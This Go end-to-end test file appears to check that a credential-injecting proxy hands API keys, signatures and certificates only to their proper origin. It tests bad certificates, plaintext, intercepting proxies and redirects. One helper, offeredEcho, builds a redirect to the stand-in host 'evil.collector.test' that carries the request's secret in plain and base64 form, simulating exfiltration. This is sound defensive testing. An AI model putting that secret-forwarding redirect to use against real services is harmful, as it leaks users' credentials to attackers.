package e2e

import (
	"crypto/hmac"
	"crypto/sha256"
	"crypto/tls"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"sync"
	"testing"

	"waybill/internal/contract"
	"waybill/internal/testkit"
	"waybill/outcome"
)

const (
	collectorHost = "evil.collector.test"  // has a route, which injects nothing
	thiefHost     = "thief.collector.test" // has a route, which injects
)

// wrongPlace is one way in which a credential could get to somebody else.
type wrongPlace struct {
	name string
	// upstream is what the route says besides roots; %s is the host.
	upstream string
	code     outcome.Code // of the refusal; CodeNone: the right origin answers
	// got is every byte that the wrong endpoint received, decrypted where it could.
	got func() string
	// quiet: not one application byte may come.
	quiet bool
}

// offeredBody is what callers send: a JSON object, for the way "body".
const offeredBody = `{"amount": 5}`

// offeredEcho is a URL of a collector that holds the secret of the request, plain and in
// base64: what an origin could try to have carried away.
func offeredEcho(k *sources, a testkit.Arrival) string {
	source, way, _ := strings.Cut(a.Authority, "-")
	if strings.HasPrefix(way, "mtls.") {
		return "https://" + collectorHost + "/stolen" // a certificate is no secret, and its key is not sent
	}
	s := k.secret(source)
	if sign := a.Header.Get("X-Signature"); sign != "" {
		s = sign
	}
	return "https://" + collectorHost + "/stolen?p=" + url.QueryEscape(s) + "&b=" + base64.RawURLEncoding.EncodeToString([]byte(s))
}

// TestCredentialsOfferedToTheirOriginOnly: the credential of each source, in each way, is
// given to the origins of its route over verified TLS – and to nobody else: not to a host
// with another certificate, an untrusted, expired or unpinned one, not in clear, not to
// whom a redirect names, not to a proxy in between. Searched is every byte that any wrong
// endpoint received (CONTRACT V2, R2-R4, E6, C2).
func TestCredentialsOfferedToTheirOriginOnly(t *testing.T) {
	contract.Covers(t, "V2", "C2", "E1", "E6", "R2", "R3", "R4", "G7", "B1")
	ca, other := testkit.NewCA(t), testkit.NewCA(t)
	k := newSources(t, ca)
	all := combos()

	// The right origin: it asks for a certificate where one is expected.
	var signatures sync.Map // what was made of secrets, to be looked for
	right := rightOrigin(t, ca, k, &signatures)
	wrongName := testkit.NewTrap(t, ca.Server("*.somebody.test", "somebody.test"), "")
	untrusted := testkit.NewTrap(t, other.Server("*.untrusted.test"), "")
	selfSigned := testkit.NewTrap(t, testkit.ServerConfig(ca.SelfSigned("*.selfsigned.test")), "")
	expired := testkit.NewTrap(t, testkit.ServerConfig(ca.Expired("*.expired.test")), "")
	unpinned := testkit.NewTrap(t, ca.Server("*.unpinned.test"), "")
	plain := testkit.NewTrap(t, nil, "")
	behind := testkit.NewTrap(t, other.Server("*.intercepted.test"), "")
	beyond := testkit.NewTrap(t, nil, "")
	evil := testkit.NewTrap(t, ca.Server(collectorHost, thiefHost, "*.redirect.test", "*.follow.test"), "")
	through := testkit.NewConnectProxy(t, nil, right.Addr(), "")
	intercepts := testkit.NewConnectProxy(t, nil, behind.Addr(), "")
	speaksPlain := testkit.NewConnectProxy(t, nil, beyond.Addr(), "")
	sendsAway := testkit.NewConnectProxy(t, nil, "", "HTTP/1.1 307 Temporary Redirect\r\nLocation: http://"+plain.Addr()+"/\r\nContent-Length: 0\r\n\r\n")

	resolved := func(addr string) string { return `, resolve: {%s: "` + addr + `"}` }
	proxied := func(p *testkit.ConnectProxy) string {
		return `, proxy: {url: "http://` + p.Addr() + `", user: waybill, credential: corp}`
	}
	certificate, handshake := outcome.CodeTLSCertificateInvalid, outcome.CodeTLSHandshakeFailed
	places := []wrongPlace{
		{name: "right", upstream: resolved(right.Addr()) + `, pins: ["` + testkit.Pin(ca.Cert) + `"]`, got: func() string { return "" }},
		{name: "elsewhere", upstream: resolved(wrongName.Addr()), code: certificate, got: wrongName.Got, quiet: true},
		{name: "untrusted", upstream: resolved(untrusted.Addr()), code: certificate, got: untrusted.Got, quiet: true},
		{name: "selfsigned", upstream: resolved(selfSigned.Addr()), code: certificate, got: selfSigned.Got, quiet: true},
		{name: "expired", upstream: resolved(expired.Addr()), code: certificate, got: expired.Got, quiet: true},
		{name: "unpinned", upstream: resolved(unpinned.Addr()) + `, pins: ["` + testkit.Pin(other.Cert) + `"]`, code: certificate, got: unpinned.Got, quiet: true},
		{name: "plain", upstream: resolved(plain.Addr()), code: handshake, got: plain.Got}, // a ClientHello comes
		{name: "redirect", upstream: resolved(right.Addr()), got: evil.Got},
		{name: "follow", upstream: resolved(right.Addr()), got: evil.Got},
		{name: "proxied", upstream: proxied(through), got: through.Seen},
		{name: "intercepted", upstream: proxied(intercepts), code: certificate, got: func() string { return intercepts.Seen() + behind.Got() }},
		{name: "plainproxy", upstream: proxied(speaksPlain), code: handshake, got: func() string { return speaksPlain.Seen() + beyond.Got() }},
		{name: "sentaway", upstream: proxied(sendsAway), code: outcome.CodeProxyTunnelFailed, got: sendsAway.Seen},
	}
	if wrongName.Addr() == "" || len(all) < 90 {
		t.Fatalf("%d combinations", len(all))
	}
	var y strings.Builder
	for _, p := range places {
		for _, c := range all {
			host, more := c.name()+"."+p.name+".test", ""
			if p.name == "follow" {
				if !slices.Contains([]string{"header", "basic", "cookie", "mtls"}, c.way) {
					continue // refused by check: what is injected belongs to one request
				}
				more = "    redirects: same_origin\n"
			}
			up := p.upstream
			if strings.Contains(up, "%s") {
				up = fmt.Sprintf(up, host)
			}
			fmt.Fprintf(&y, "  - name: %s.%s\n    match: {host: %s}\n    upstream: {roots: roots.pem%s}\n    limits: {tries: 1}\n    inject: [%s]\n%s", c.name(), p.name, host, up, c.inject(), more)
		}
	}
	fmt.Fprintf(&y, "  - name: evil\n    match: {host: %s}\n    upstream: {roots: roots.pem, resolve: {%s: %q}}\n", collectorHost, collectorHost, evil.Addr())
	fmt.Fprintf(&y, "  - name: thief\n    match: {host: %s}\n    upstream: {roots: roots.pem, resolve: {%s: %q}}\n    inject: [%s]\n", thiefHost, thiefHost, evil.Addr(), combo{"file", "header"}.inject())
	r := newRig(t, ca, rigOptions{routes: y.String(), top: k.yaml + "  corp: {from: {file: corp}}\n"})
	r.write("corp", "password-of-the-proxy")
	k.install(r)
	r.start()
	client := testkit.NewClient(t, testkit.ClientConfig{Proxy: "http://" + r.addr, Roots: r.roots()})
	fields := []string{"Content-Type", "application/json"}
	// each sends one request for each combination that has a route: all of them to the right
	// origin and to one with a wrong certificate, a third of them – each source with each kind
	// of way, each way with several sources – to the others, and all in make test-long.
	each := func(t *testing.T, place string, send func(t *testing.T, c combo, host string)) {
		t.Helper()
		work := make(chan combo)
		var pool sync.WaitGroup
		for range 6 {
			pool.Go(func() {
				for c := range work {
					send(t, c, c.name()+"."+place+".test")
				}
			})
		}
		for _, c := range all {
			some := long() || place == "right" || place == "elsewhere" || (slices.Index(allSources, c.source)+slices.Index(allWays, c.way))%3 == 0
			if some && (place != "follow" || slices.Contains([]string{"header", "basic", "cookie", "mtls"}, c.way)) {
				work <- c
			}
		}
		close(work)
		pool.Wait()
	}
	var answers strings.Builder
	var mu sync.Mutex
	keep := func(resp *testkit.Response) *testkit.Response {
		mu.Lock()
		defer mu.Unlock()
		fmt.Fprintln(&answers, resp.Status, resp.Header, string(resp.Body))
		return resp
	}
	post := func(t *testing.T, target string) *testkit.Response {
		return keep(testkit.Send(t, client, http.MethodPost, target, offeredBody, fields...))
	}

	for _, p := range places {
		t.Run(p.name, func(t *testing.T) {
			each(t, p.name, func(t *testing.T, c combo, host string) {
				before := len(right.Where(func(a testkit.Arrival) bool { return a.Authority == host }))
				resp := post(t, "https://"+host+"/v1/pay")
				said := resp.Header.Get("Waybill-Outcome")
				arrived := right.Where(func(a testkit.Arrival) bool { return a.Authority == host })[before:]
				if p.code != outcome.CodeNone {
					if !strings.Contains(said, "not_attempted") || !strings.Contains(string(resp.Body), `"`+p.code.String()+`"`) || len(arrived) != 0 {
						t.Errorf("%s: %d %s %s", c.name(), resp.Status, said, resp.Body)
					}
					return
				}
				if resp.Status != 200 || !strings.HasPrefix(said, "committed") || len(arrived) != 1 {
					t.Errorf("%s: %d %s %s", c.name(), resp.Status, said, resp.Body)
					return
				}
				holds(t, k, c, arrived[0], &signatures) // the control: it did get it
			})
		})
	}
	t.Run("http URL", func(t *testing.T) {
		// A request for http:// goes over TLS, or not at all: a port that speaks no TLS gets nothing.
		each(t, "plain", func(t *testing.T, c combo, host string) {
			if resp := post(t, "http://"+host+"/v1/pay"); !strings.Contains(resp.Header.Get("Waybill-Outcome"), "not_attempted") {
				t.Errorf("%s: %d %s", c.name(), resp.Status, resp.Body)
			}
		})
	})
	t.Run("names disagree", func(t *testing.T) {
		before := len(right.Arrivals())
		each(t, "right", func(t *testing.T, c combo, host string) {
			// The tunnel is to one host, TLS or the Host field name another, both ways round.
			for _, d := range [][3]string{{host, collectorHost, host}, {host, host, collectorHost}, {collectorHost, collectorHost, host}, {collectorHost, host, host}} {
				conn, resp, err := testkit.Connect(t, r.addr, d[0]+":443")
				if err != nil {
					t.Errorf("%s: %v %v", c.name(), resp, err)
					continue
				}
				inner, _, err := conn.StartTLS(t, d[1], r.roots(), "http/1.1")
				if err != nil {
					continue // refused in the handshake
				}
				if got := keep(inner.Roundtrip(t, "POST /v1/mixed HTTP/1.1\r\nHost: "+d[2]+"\r\nContent-Type: application/json\r\nContent-Length: "+fmt.Sprint(len(offeredBody))+"\r\nConnection: close\r\n\r\n"+offeredBody)); got.Status != http.StatusBadRequest {
					t.Errorf("%s %v: %d %s", c.name(), d, got.Status, got.Body)
				}
			}
		})
		if n := len(right.Arrivals()); n != before {
			t.Errorf("%d of them arrived", n-before)
		}
	})
	t.Run("relayed redirect", func(t *testing.T) {
		each(t, "redirect", func(t *testing.T, c combo, host string) {
			for path, loc := range map[string]string{"/go/evil": "https://" + collectorHost, "/go/echo": "", "/go/port": "https://" + host + ":9443", "/go/clear": "http://" + host, "/go/thief": "https://" + thiefHost} {
				resp := post(t, "https://"+host+path)
				got := resp.Header.Get("Location")
				if loc != "" && (resp.Status != http.StatusTemporaryRedirect || !strings.HasPrefix(got, loc)) {
					t.Errorf("%s %s: %d %s %s", c.name(), path, resp.Status, got, resp.Body)
				}
				if got == "" {
					continue // withheld
				}
				// The caller follows, as its library would.
				next := post(t, got)
				switch path {
				case "/go/evil", "/go/echo":
					if next.Status != 200 {
						t.Errorf("%s: the collector is not reached: %d %s", c.name(), next.Status, next.Body)
					}
				case "/go/thief":
					if !strings.Contains(string(next.Body), `"REDIRECT_CROSS_ORIGIN"`) {
						t.Errorf("%s: %d %s", c.name(), next.Status, next.Body)
					}
				case "/go/port":
					if !strings.Contains(next.Header.Get("Waybill-Outcome"), "not_attempted") {
						t.Errorf("%s: another port: %d %s", c.name(), next.Status, next.Body)
					}
				}
			}
		})
	})
	t.Run("followed redirect", func(t *testing.T) {
		each(t, "follow", func(t *testing.T, c combo, host string) {
			for _, path := range []string{"/go/evil", "/go/thief", "/go/port", "/go/clear", "/go/here"} {
				resp := post(t, "https://"+host+path)
				if want := map[bool]int{true: 200, false: http.StatusTemporaryRedirect}[path == "/go/here"]; resp.Status != want {
					t.Errorf("%s %s: %d %s", c.name(), path, resp.Status, resp.Body)
				}
			}
			arrived := right.Where(func(a testkit.Arrival) bool { return a.Authority == host && a.Target == "/v1/here" })
			if len(arrived) != 1 {
				t.Errorf("%s: the redirect on the origin was followed %d times", c.name(), len(arrived))
				return
			}
			holds(t, k, c, arrived[0], &signatures)
		})
	})
	metrics := get(t, r.meters)
	list := r.must("", "actions", "--json")
	r.kill()

	for _, p := range places {
		got := p.got()
		if p.quiet && got != "" {
			t.Errorf("%s received %d bytes of a request", p.name, len(got))
		}
		for _, c := range []*testkit.Canary{k.canary, k.appKey, k.pemKey} {
			testkit.Search(t, c, testkit.InString(p.name, got))
		}
		signatures.Range(func(s, _ any) bool {
			if strings.Contains(got, s.(string)) { //nolint:forcetypeassert // strings only
				t.Errorf("%s received a signature", p.name)
				return false
			}
			return true
		})
		if strings.Contains(got, "AWS4-HMAC-SHA256") || strings.Contains(got, "X-Signature") {
			t.Errorf("%s received a signature's field", p.name)
		}
	}
	for name, p := range map[string]*testkit.Trap{"elsewhere": wrongName, "untrusted": untrusted, "self-signed": selfSigned, "expired": expired, "unpinned": unpinned, "behind": behind} {
		if p.Conns() == 0 {
			t.Errorf("%s was not tried at all", name)
		}
		if p.Certificates() != 0 {
			t.Errorf("%s was shown a client certificate", name)
		}
		testkit.Search(t, k.canary, testkit.InString(name, p.Wire()))
	}
	if evil.Got() == "" || evil.Certificates() != 0 {
		t.Error("the collector got no request, or a certificate")
	}
	for _, c := range []*testkit.Canary{k.canary, k.appKey, k.pemKey} {
		testkit.Search(t, c, testkit.InString("answers", answers.String()), testkit.InString("log", r.logs.String()), testkit.InString("metrics", metrics), testkit.InString("actions", list))
	}
	testkit.Search(t, k.canary, testkit.In(r.data)) // the vault is there, too
}

// rightOrigin answers, and redirects where it is asked to.
func rightOrigin(t *testing.T, ca *testkit.CA, k *sources, signatures *sync.Map) *testkit.Upstream {
	t.Helper()
	cfg := ca.Server("*.right.test", "*.redirect.test", "*.follow.test", "*.proxied.test")
	mutual := ca.RequireClient(cfg)
	cfg.GetConfigForClient = func(h *tls.ClientHelloInfo) (*tls.Config, error) {
		if strings.Contains(h.ServerName, "-mtls.") {
			return mutual, nil
		}
		return nil, nil //nolint:nilnil // the one that asks
	}
	return testkit.NewUpstream(t, testkit.UpstreamConfig{TLS: cfg, Handler: func(a testkit.Arrival) []testkit.Step {
		for _, name := range []string{"X-Signature", "Authorization"} {
			if s := a.Header.Get(name); s != "" && !strings.HasPrefix(s, "Basic") {
				signatures.Store(s[max(0, len(s)-64):], true)
			}
		}
		path, _, _ := strings.Cut(a.Target, "?")
		if !strings.HasPrefix(path, "/go/") {
			return []testkit.Step{testkit.Reply(200, "ok")}
		}
		to := map[string]string{"/go/evil": "https://" + collectorHost + "/x", "/go/thief": "https://" + thiefHost + "/x", "/go/echo": offeredEcho(k, a), "/go/clear": "http://" + a.Authority + "/x", "/go/here": "/v1/here",
			"/go/port": "https://" + a.Authority + ":9443/x"}[path]
		return []testkit.Step{testkit.Reply(http.StatusTemporaryRedirect, "", "Location", to)}
	}})
}

// holds checks that a request carries the credential of c in its way.
func holds(t *testing.T, k *sources, c combo, a testkit.Arrival, signatures *sync.Map) {
	t.Helper()
	secret := k.secret(c.source)
	got, want := "", secret
	path, query, _ := strings.Cut(a.Target, "?")
	switch c.way {
	case "header":
		got = a.Header.Get("X-Api-Key")
	case "basic":
		got, want = a.Header.Get("Authorization"), "Basic "+base64.StdEncoding.EncodeToString([]byte("agent:"+secret))
	case "cookie":
		got, want = a.Header.Get("Cookie"), "sid="+secret
	case "query":
		v, err := url.ParseQuery(query)
		if err != nil {
			t.Error(err)
		}
		got = v.Get("api_key")
	case "body":
		got = string(a.Body)
		want = fmt.Sprintf(`{"amount": 5,"auth":{"token":%q}}`, secret)
	case "hmac":
		mac := hmac.New(sha256.New, []byte(secret))
		fmt.Fprintf(mac, "%s %s %s", a.Method, path, a.Body)
		got, want = a.Header.Get("X-Signature"), "v1="+hex.EncodeToString(mac.Sum(nil))
	case "sigv4":
		got, want = a.Header.Get("Authorization"), sign4(secret, a)
	case "mtls":
		return // the handshake would have failed
	}
	if got != want {
		t.Errorf("%s: the right origin did not get it", c.name())
	}
	if c.way == "hmac" || c.way == "sigv4" { // the key itself is never sent
		testkit.Search(t, k.canary, testkit.InString(c.name(), string(a.RawHead)+string(a.Body)))
		if _, known := signatures.Load(got[max(0, len(got)-64):]); !known {
			t.Errorf("%s: a signature that nobody looks for", c.name())
		}
	}
}

// sign4 is Signature Version 4 of a request without a query, written anew from its
// documentation.
func sign4(secret string, a testkit.Arrival) string {
	_, list, _ := strings.Cut(a.Header.Get("Authorization"), "SignedHeaders=")
	list, _, _ = strings.Cut(list, ",")
	var canonical strings.Builder
	for _, name := range strings.Split(list, ";") {
		v := a.Header.Get(name)
		if name == "host" {
			v = a.Authority
		}
		if name == "content-length" {
			v = fmt.Sprint(len(a.Body))
		}
		canonical.WriteString(name + ":" + strings.TrimSpace(v) + "\n")
	}
	path, _, _ := strings.Cut(a.Target, "?")
	digest := sha256.Sum256(a.Body)
	whole := sha256.Sum256([]byte(a.Method + "\n" + path + "\n\n" + canonical.String() + "\n" + list + "\n" + hex.EncodeToString(digest[:])))
	date := a.Header.Get("X-Amz-Date")
	scope := date[:min(8, len(date))] + "/eu-west-1/execute-api/aws4_request"
	key := []byte("AWS4" + secret)
	for _, part := range append(strings.Split(scope, "/"), "AWS4-HMAC-SHA256\n"+date+"\n"+scope+"\n"+hex.EncodeToString(whole[:])) {
		mac := hmac.New(sha256.New, key)
		mac.Write([]byte(part))
		key = mac.Sum(nil)
	}
	return "AWS4-HMAC-SHA256 Credential=AKIDCALLER/" + scope + ", SignedHeaders=" + list + ", Signature=" + hex.EncodeToString(key)
}
